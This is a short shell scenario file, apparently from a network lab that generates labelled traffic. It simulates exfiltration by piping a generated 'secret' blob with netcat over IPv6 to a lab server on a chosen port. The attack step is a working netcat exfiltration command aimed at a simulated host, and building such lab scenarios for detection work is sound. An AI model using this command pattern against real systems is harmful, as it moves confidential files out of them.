# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-nc
# needs: nc
# seconds: 90
# An upload over IPv6.
. $lab/victims.sh

servers() {
	_port=$(choose 8443 2049 21)
	serve s sh -c 'nc -6 -n -l -p "$1" >/dev/null' sh "$_port"
	sleep 1
}

scenario() {
	_mega=$(choose 5 10)
	setting options "$_mega MB to port $_port"
	blob "$work/secret" $((_mega * 1000000))
	sleep 4
	# shellcheck disable=SC2016
	attack a s tcp "$_port" -- timeout 70 sh \
		-c 'nc -6 -n -q 1 "$2" "$3" <"$1"' sh "$work/secret" \
		"$(addr6 s)" "$_port"
	sleep 4
}
